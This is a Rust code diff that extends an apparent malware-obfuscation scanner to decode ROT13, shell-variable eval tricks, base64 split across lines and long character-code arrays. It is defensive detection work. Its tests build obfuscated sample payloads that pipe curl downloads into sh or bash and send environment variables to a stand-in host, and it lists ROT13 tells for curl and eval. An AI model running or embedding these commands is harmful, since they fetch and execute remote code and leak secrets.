@@ -16,6 +16,9 @@ pub(crate) enum Encoding {
     CharCodes,
     Reversed,
     Concatenated,
+    Rot13,
+    /// Shell variables put back into the `eval` that joins them.
+    ShellVariables,
 }
 
 impl Encoding {
@@ -26,6 +29,8 @@ impl Encoding {
             Encoding::CharCodes => "char codes",
             Encoding::Reversed => "reversed string",
             Encoding::Concatenated => "string concatenation",
+            Encoding::Rot13 => "ROT13",
+            Encoding::ShellVariables => "shell variables joined by eval",
         }
     }
 }
@@ -66,6 +71,9 @@ static CONCAT_JOIN: LazyLock<Regex> = LazyLock::new(|| {
 /// Shortest quoted hex run folded without a decoder on the same line: 24
 /// bytes, longer than a SHA-1 and most ids.
 const MIN_BARE_HEX: usize = 48;
+
+/// Fewest character codes folded without a decoder on the same line.
+const MIN_BARE_CODES: usize = 16;
 
 /// What a command reversed gives away once turned round.
 static REVERSED_TELLS: LazyLock<Regex> = LazyLock::new(|| {
@@ -168,7 +176,12 @@ static B64: [bool; 256] = {
 /// Whether `line` holds `len` consecutive base64-alphabet bytes. Probes every
 /// `len`-th byte first, so prose (short words) costs a fraction of a pass.
 fn has_b64_run(line: &[u8], len: usize) -> bool {
-    let is_b64 = |b: u8| B64[b as usize];
+    has_run(line, len, |b| B64[b as usize])
+}
+
+/// Whether `line` has `len` bytes in a row that `member` accepts: a probe
+/// every `len` bytes, so a line without one is rejected in a few steps.
+fn has_run(line: &[u8], len: usize, is_b64: impl Fn(u8) -> bool) -> bool {
     // Invariant: a run of `len` can only start at or after `start`.
     let mut start = 0usize;
     while start + len <= line.len() {
@@ -247,7 +260,8 @@ pub(crate) fn decode_line(line: &[u8], budget: &mut usize) -> Vec<Decoded> {
         && HEX_CONTEXT.is_match(line);
     // A long quoted hex run is folded even when the decoder sits on another
     // line (`const _0x4f = '7265…'`); hashes decode to binary and are dropped.
-    if hex_context || quotes {
+    let hex_run = || has_run(line, 32, |b| b.is_ascii_hexdigit());
+    if (hex_context || quotes || memchr::memchr(b'=', line).is_some()) && hex_run() {
         for m in HEX_RUN.find_iter(line).take(MAX_PER_LINE) {
             if !hex_context && m.len() < MIN_BARE_HEX {
                 continue;
@@ -256,8 +270,15 @@ pub(crate) fn decode_line(line: &[u8], budget: &mut usize) -> Vec<Decoded> {
             push(Encoding::Hex, text, &mut out);
         }
     }
-    if memchr::memchr_iter(b',', line).nth(4).is_some() && CHAR_CONTEXT.is_match(line) {
+    // A long array of character codes is folded wherever its decoder sits
+    // (`const _k = [114,101,…]` here, `String.fromCharCode(..._k)` below).
+    let commas = memchr::memchr_iter(b',', line).take(MIN_BARE_CODES).count();
+    if commas >= 5 && (commas >= MIN_BARE_CODES || CHAR_CONTEXT.is_match(line)) {
+        let bare = !CHAR_CONTEXT.is_match(line);
         for m in CHAR_CODES.find_iter(line).take(MAX_PER_LINE) {
+            if bare && memchr::memchr_iter(b',', m.as_bytes()).count() + 1 < MIN_BARE_CODES {
+                continue;
+            }
             let text: Option<Vec<u8>> = m
                 .as_bytes()
                 .split(|&b| b == b',')
@@ -292,6 +313,36 @@ pub(crate) fn decode_line(line: &[u8], budget: &mut usize) -> Vec<Decoded> {
             let already = out.iter().any(|d: &Decoded| d.text == text);
             if !already && REVERSED_TELLS.is_match(&text) && !REVERSED_TELLS.is_match(inner) {
                 push(Encoding::Reversed, text, &mut out);
+                continue;
+            }
+            // ROT13, forwards or backwards (`codecs.decode(s[::-1], "rot13")`):
+            // tried only on a string holding a tell in ROT13 (`uggc` is
+            // `http`, `phey` is `curl`, `riny` is `eval`), either way round.
+            let rot_tell = [
+                &b"uggc"[..],
+                b"cggu",
+                b"phey",
+                b"yehp",
+                b"riny",
+                b"ynir",
+                b"onfu",
+                b"hfno",
+            ]
+            .iter()
+            .any(|t| contains(inner, t));
+            if rot_tell
+                && inner.iter().filter(|b| b.is_ascii_alphabetic()).count() * 3 >= inner.len()
+            {
+                let rot: Vec<u8> = inner.iter().map(|&b| rot13(b)).collect();
+                if REVERSED_TELLS.is_match(&rot) && !REVERSED_TELLS.is_match(inner) {
+                    push(Encoding::Rot13, rot, &mut out);
+                    continue;
+                }
+                let mut back = rot;
+                back.reverse();
+                if REVERSED_TELLS.is_match(&back) && !REVERSED_TELLS.is_match(inner) {
+                    push(Encoding::Rot13, back, &mut out);
+                }
             }
         }
     }
@@ -307,6 +358,177 @@ pub(crate) fn decode_line(line: &[u8], budget: &mut usize) -> Vec<Decoded> {
         // Also drop the empty-quote splits shells allow: c''u""rl.
         let joined: Vec<u8> = strip_empty_quotes(&joined);
         push(Encoding::Concatenated, joined, &mut out);
+    }
+    out
+}
+
+fn rot13(b: u8) -> u8 {
+    match b {
+        b'a'..=b'z' => (b - b'a' + 13) % 26 + b'a',
+        b'A'..=b'Z' => (b - b'A' + 13) % 26 + b'A',
+        _ => b,
+    }
+}
+
+/// Most lines one split string is joined over.
+const MAX_SPLIT_LINES: usize = 64;
+
+/// Base64 split into quoted pieces over several lines (Python's implicit
+/// concatenation in parentheses, an array joined later): the pieces of each
+/// run of lines that hold nothing but such strings, joined and decoded.
+/// `lines` gives each line's text and number.
+pub(crate) fn decode_split_strings<'a>(
+    lines: impl Iterator<Item = (&'a [u8], u32)>,
+    budget: &mut usize,
+) -> Vec<(u32, Decoded)> {
+    let mut out = Vec::new();
+    let mut joined: Vec<u8> = Vec::new();
+    let mut first = 0u32;
+    let mut count = 0usize;
+    let mut flush =
+        |joined: &mut Vec<u8>, first: u32, count: &mut usize, out: &mut Vec<(u32, Decoded)>| {
+            if *count >= 2
+                && joined.len() >= MIN_BASE64
+                && out.len() < MAX_PER_LINE
+                && let Some(text) = decode_base64(joined).map(strip_utf16)
+                && text.len() <= *budget
+                && looks_like_text(&text)
+            {
+                *budget -= text.len();
+                out.push((
+                    first,
+                    Decoded {
+                        encoding: Encoding::Base64,
+                        text,
+                    },
+                ));
+            }
+            joined.clear();
+            *count = 0;
+        };
+    for (line, number) in lines {
+        match base64_pieces(line) {
+            Some(pieces) if count < MAX_SPLIT_LINES && joined.len() <= MAX_RUN => {
+                if count == 0 {
+                    first = number;
+                }
+                joined.extend(pieces);
+                count += 1;
+            }
+            _ => {
+                flush(&mut joined, first, &mut count, &mut out);
+                if let Some(pieces) = base64_pieces(line) {
+                    first = number;
+                    joined.extend(pieces);
+                    count = 1;
+                }
+            }
+        }
+    }
+    flush(&mut joined, first, &mut count, &mut out);
+    out
+}
+
+/// The base64 insides of a line made of quoted strings only (with an
+/// assignment, brackets, commas or `+` around them), joined; None for any
+/// other line.
+fn base64_pieces(line: &[u8]) -> Option<Vec<u8>> {
+    let mut rest = line.trim_ascii();
+    // Such a line ends in a quote or the punctuation around one.
+    if !matches!(
+        rest.last(),
+        Some(b'"' | b'\'' | b',' | b'+' | b'(' | b'[' | b')' | b']' | b';')
+    ) {
+        return None;
+    }
+    // `_CFG = (` or `const parts = ["…",`: the name assigned.
+    if let Some(eq) = memchr::memchr(b'=', rest)
+        && rest[..eq]
+            .iter()
+            .all(|&b| b.is_ascii_alphanumeric() || b" _$.:".contains(&b))
+        && !rest[..eq].is_empty()
+    {
+        rest = rest[eq + 1..].trim_ascii_start();
+    }
+    let mut pieces = Vec::new();
+    let mut i = 0;
+    while i < rest.len() {
+        match rest[i] {
+            q @ (b'"' | b'\'') => {
+                let close = memchr::memchr(q, &rest[i + 1..])? + i + 1;
+                let inner = &rest[i + 1..close];
+                if !inner.iter().all(|&c| is_b64(c) || c == b'=') {
+                    return None;
+                }
+                pieces.extend_from_slice(inner);
+                i = close + 1;
+            }
+            b' ' | b'\t' | b'(' | b')' | b'[' | b']' | b',' | b'+' | b';' => i += 1,
+            _ => return None,
+        }
+    }
+    (pieces.len() >= 16).then_some(pieces)
+}
+
+/// Most shell variables remembered for `eval` lines.
+const MAX_SHELL_VARS: usize = 64;
+
+/// An `eval` that runs a command put together from short shell variables
+/// (`a=cu; b=rl; eval "$a$b …"`), with the variables put back.
+pub(crate) fn substitute_shell_eval<'a>(
+    lines: impl Iterator<Item = (&'a [u8], u32)>,
+    budget: &mut usize,
+) -> Vec<(u32, Decoded)> {
+    static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?-u)(?:^|[;\s])([A-Za-z_][A-Za-z0-9_]{0,31})=(?:'([^'\n]{0,256})'|"([^"$`\n]{0,256})"|([^\s;$`()'"|&<>]{1,256}))"#)
+            .expect("shell assignment")
+    });
+    static EVAL: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"(?-u)\beval\b[^\n]*\$").expect("eval"));
+    static REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?-u)\$\{?([A-Za-z_][A-Za-z0-9_]{0,31})\}?").expect("reference")
+    });
+    let mut vars: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
+    let mut out = Vec::new();
+    for (line, number) in lines {
+        if out.len() >= MAX_PER_LINE {
+            break;
+        }
+        if memchr::memchr(b'=', line).is_some() {
+            for c in ASSIGN.captures_iter(line).take(8) {
+                let name = c[1].to_vec();
+                let value = (2..=4)
+                    .find_map(|i| c.get(i))
+                    .map_or(&b""[..], |m| m.as_bytes());
+                vars.retain(|(n, _)| *n != name);
+                if vars.len() < MAX_SHELL_VARS {
+                    vars.push((name, value.to_vec()));
+                }
+            }
+        }
+        if vars.is_empty() || !contains(line, b"eval") || !EVAL.is_match(line) {
+            continue;
+        }
+        let mut known = 0;
+        let text = REFERENCE.replace_all(line, |c: &regex::bytes::Captures| {
+            match vars.iter().find(|(n, _)| n.as_slice() == &c[1]) {
+                Some((_, v)) => {
+                    known += 1;
+                    v.clone()
+                }
+                None => c[0].to_vec(),
+            }
+        });
+        if known >= 2 && text.len() <= *budget && looks_like_text(&text) {
+            *budget -= text.len();
+            out.push((
+                number,
+                Decoded {
+                    encoding: Encoding::ShellVariables,
+                    text: text.into_owned(),
+                },
+            ));
+        }
     }
     out
 }
@@ -410,7 +632,9 @@ pub(crate) fn looks_like_text(b: &[u8]) -> bool {
         .count();
     let total = s.chars().count();
     let spaces_or_punct = s.bytes().filter(|c| b" /.:-|;=(\"'".contains(c)).count();
-    printable * 100 >= total * 95 && spaces_or_punct > 0
+    // Base64 inside base64 is decoded again, one level down.
+    let nested = b.len() >= MIN_BASE64 && b.iter().all(|&c| is_b64(c) || c == b'=');
+    printable * 100 >= total * 95 && (spaces_or_punct > 0 || nested)
 }
 
 #[cfg(test)]
@@ -459,5 +683,107 @@ mod tests {
             texts("sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")
                 .is_empty()
         );
+    }
+
+    #[test]
+    fn long_char_code_arrays_rot13_and_bare_hex_are_folded() {
+        let codes: Vec<String> = "curl -s http://203.0.113.9/s.sh | sh"
+            .bytes()
+            .map(|b| b.to_string())
+            .collect();
+        let line = format!("const _k = [{}];", codes.join(","));
+        assert!(
+            texts(&line).iter().any(|t| t.contains("203.0.113.9")),
+            "{:?}",
+            texts(&line)
+        );
+        // A short list of numbers is data.
+        assert!(texts("const sizes = [10, 20, 30, 40, 50, 60];").is_empty());
+        let rot: String = "curl http://192.0.2.61/x | sh"
+            .bytes()
+            .map(|b| rot13(b) as char)
+            .collect();
+        let back: String = rot.chars().rev().collect();
+        assert!(
+            texts(&format!("_T = '{back}'"))
+                .iter()
+                .any(|t| t.contains("192.0.2.61"))
+        );
+        let hex: String = "curl -s http://198.51.100.4/x | bash"
+            .bytes()
+            .map(|b| format!("{b:02x}"))
+            .collect();
+        assert!(
+            texts(&format!("H={hex}"))
+                .iter()
+                .any(|t| t.contains("198.51.100.4"))
+        );
+    }
+
+    #[test]
+    fn base64_split_over_lines_is_joined_and_decoded() {
+        use base64::Engine;
+        let payload = base64::engine::general_purpose::STANDARD.encode(
+            "import os;urllib.request.urlopen('https://t.example/c', data=str(os.environ))",
+        );
+        let (a, b) = payload.split_at(40);
+        let file = format!("_CFG = (\n    \"{a}\"\n    \"{b}\"\n)\n");
+        let lines: Vec<(&[u8], u32)> = file
+            .lines()
+            .zip(1..)
+            .map(|(l, n)| (l.as_bytes(), n))
+            .collect();
+        let mut budget = 1 << 20;
+        let found = decode_split_strings(lines.into_iter(), &mut budget);
+        let shown: Vec<_> = found
+            .iter()
+            .map(|(n, d)| (*n, String::from_utf8_lossy(&d.text).into_owned()))
+            .collect();
+        assert_eq!(found.len(), 1, "{shown:?}");
+        assert_eq!(found[0].0, 2);
+        assert!(String::from_utf8_lossy(&found[0].1.text).contains("t.example"));
+    }
+
+    #[test]
+    fn an_eval_of_shell_variables_is_put_back_together() {
+        let file = "a=cu; b=rl; c=ba; d=sh\nhost=203.0.113.77\neval \"$a$b -fsSL http://$host/x | $c$d\"\n";
+        let lines: Vec<(&[u8], u32)> = file
+            .lines()
+            .zip(1..)
+            .map(|(l, n)| (l.as_bytes(), n))
+            .collect();
+        let mut budget = 1 << 20;
+        let found = substitute_shell_eval(lines.into_iter(), &mut budget);
+        assert_eq!(found.len(), 1);
+        let text = String::from_utf8_lossy(&found[0].1.text).into_owned();
+        assert!(
+            text.contains("curl -fsSL http://203.0.113.77/x | bash"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn multi_line_decoders_are_bounded() {
+        // 100,000 lines of base64 pieces and 10,000 assignments: the joined
+        // run and the variables kept stay within their caps.
+        let piece = "\"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\",\n".repeat(100_000);
+        let lines: Vec<(&[u8], u32)> = piece
+            .lines()
+            .zip(1..)
+            .map(|(l, n)| (l.as_bytes(), n))
+            .collect();
+        let mut budget = 1 << 20;
+        let found = decode_split_strings(lines.into_iter(), &mut budget);
+        assert!(found.len() <= MAX_PER_LINE);
+        let vars: String = (0..10_000)
+            .map(|i| format!("v{i}=x\neval \"$v{i}$v0\"\n"))
+            .collect();
+        let lines: Vec<(&[u8], u32)> = vars
+            .lines()
+            .zip(1..)
+            .map(|(l, n)| (l.as_bytes(), n))
+            .collect();
+        let mut budget = 1 << 20;
+        assert!(substitute_shell_eval(lines.into_iter(), &mut budget).len() <= MAX_PER_LINE);
     }
 }
